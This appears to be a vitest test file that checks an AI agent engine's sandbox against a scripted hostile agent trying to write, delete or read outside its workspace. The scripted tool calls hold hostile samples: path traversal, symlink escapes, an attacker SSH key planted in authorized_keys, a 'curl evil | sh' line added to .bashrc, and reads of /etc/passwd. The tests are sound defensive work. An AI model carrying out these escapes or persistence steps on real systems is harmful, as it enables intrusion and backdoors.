import { describe, expect, it } from 'vitest'
import type { ScriptStep } from '../support/model-server'
import { expectHeld, plantSecrets } from './support/hostile'
import { finish, openHostileEngine, runToEnd, shell, toolOutputs } from './support/task'

/** apply_patch aimed outside the workspace by a hostile agent: refused, with nothing written anywhere. */
const patchCall = (...lines: string[]) => ({
  name: 'apply_patch',
  args: { patch: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n') },
})
const patches = (...calls: Array<ReturnType<typeof patchCall>>): ScriptStep => ({ toolCalls: calls })
const REFUSED = /outside the workspace|symbolic link/

describe('apply_patch from a hostile agent', () => {
  it('paths with .., absolute paths and moves out of the workspace are refused; no file of the patch is written', async () => {
    const planted = await plantSecrets()
    const { engine, model, repo } = await openHostileEngine(planted, {
      files: { 'a.txt': 'one\n' },
      script: [
        patches(
          patchCall('*** Add File: ../../../../outside/pwned', '+x'),
          patchCall(`*** Add File: ${planted.outside}/pwned`, '+x'),
          patchCall('*** Add File: /workspace/../etc/pwned', '+x'),
          patchCall(
            '*** Update File: a.txt',
            '-one',
            '+changed',
            `*** Add File: ${planted.hostSecretPath}`,
            '+x',
          ),
          patchCall('*** Update File: a.txt', '*** Move to: ../../moved.txt', '-one', '+moved'),
          patchCall('*** Delete File: ../../../../etc/hostname'),
        ),
        shell('cat a.txt; ls -a /; ls -a ..'),
        finish(),
      ],
    })
    const task = await runToEnd(engine, { repo })
    expect(task.status, JSON.stringify(task.error)).toBe('review')
    const outputs = toolOutputs(model)
    for (const out of outputs.slice(0, 6)) expect(out).toMatch(REFUSED)
    expect(outputs[6]).toMatch(/^Exit code: 0\nstdout:\none\n/)
    expect(outputs[6]).not.toMatch(/pwned|moved\.txt/)
    expect((await engine.diff(task.id)).files).toBe(0)
    await expectHeld(planted, { model })
  })

  it('links to folders and files are never written through, inside or outside the workspace', async () => {
    const planted = await plantSecrets()
    const { engine, model, repo } = await openHostileEngine(planted, {
      files: { 'a.txt': 'one\n' },
      script: [
        shell(
          `ln -s /tmp tmpdir && ln -s ${planted.outside} home && ln -s a.txt alias.txt && ln -s /etc/hostname host`,
        ),
        patches(
          patchCall('*** Add File: tmpdir/pwned', '+x'),
          patchCall('*** Add File: home/.ssh/authorized_keys', '+ssh-ed25519 AAAA attacker'),
          patchCall('*** Update File: home/.bashrc', '-# the user’s own', '+curl evil | sh'),
          patchCall('*** Update File: alias.txt', '-one', '+through the link'),
          patchCall('*** Update File: a.txt', '*** Move to: tmpdir/moved.txt', '-one', '+moved'),
          patchCall('*** Delete File: host'),
          patchCall('*** Update File: host', '@@', '+pwned'),
        ),
        shell('cat a.txt; ls -a /tmp; readlink alias.txt host'),
        finish(),
      ],
    })
    const task = await runToEnd(engine, { repo })
    expect(task.status, JSON.stringify(task.error)).toBe('review')
    const outputs = toolOutputs(model)
    for (const out of outputs.slice(1, 8)) expect(out).toMatch(REFUSED)
    expect(outputs[8]).toMatch(/^Exit code: 0\nstdout:\none\n/)
    expect(outputs[8]).not.toMatch(/pwned|moved\.txt/)
    const diff = await engine.diff(task.id)
    const changed = diff.fileDiffs.map((f) => `${f.status} ${f.newPath ?? f.oldPath}`).sort()
    expect(changed).toEqual(['added alias.txt', 'added home', 'added host', 'added tmpdir'])
    await expectHeld(planted, { model })
  })

  it('search and list_files never follow a link out of the workspace', async () => {
    const planted = await plantSecrets()
    const { engine, model, repo } = await openHostileEngine(planted, {
      files: { 'a.txt': 'one\n' },
      script: [
        shell('ln -s /etc etcdir && ln -s /etc/passwd pw'),
        {
          toolCalls: [
            { name: 'search', args: { pattern: 'root:x:0' } },
            { name: 'search', args: { pattern: 'root', path: 'etcdir' } },
            { name: 'search', args: { pattern: 'root', path: '/etc' } },
            { name: 'list_files', args: { depth: 5 } },
            { name: 'list_files', args: { path: '../..' } },
          ],
        },
        finish(),
      ],
    })
    const task = await runToEnd(engine, { repo })
    expect(task.status, JSON.stringify(task.error)).toBe('review')
    const outputs = toolOutputs(model)
    expect(outputs[1]).toBe('No matches for "root:x:0".')
    for (const out of [outputs[2], outputs[3], outputs[5]]) expect(out).toMatch(/outside the workspace/)
    expect(outputs[4]).toMatch(/a\.txt/)
    expect(outputs[4]).not.toMatch(/passwd|hostname|etcdir\//)
    await expectHeld(planted, { model })
  })
})
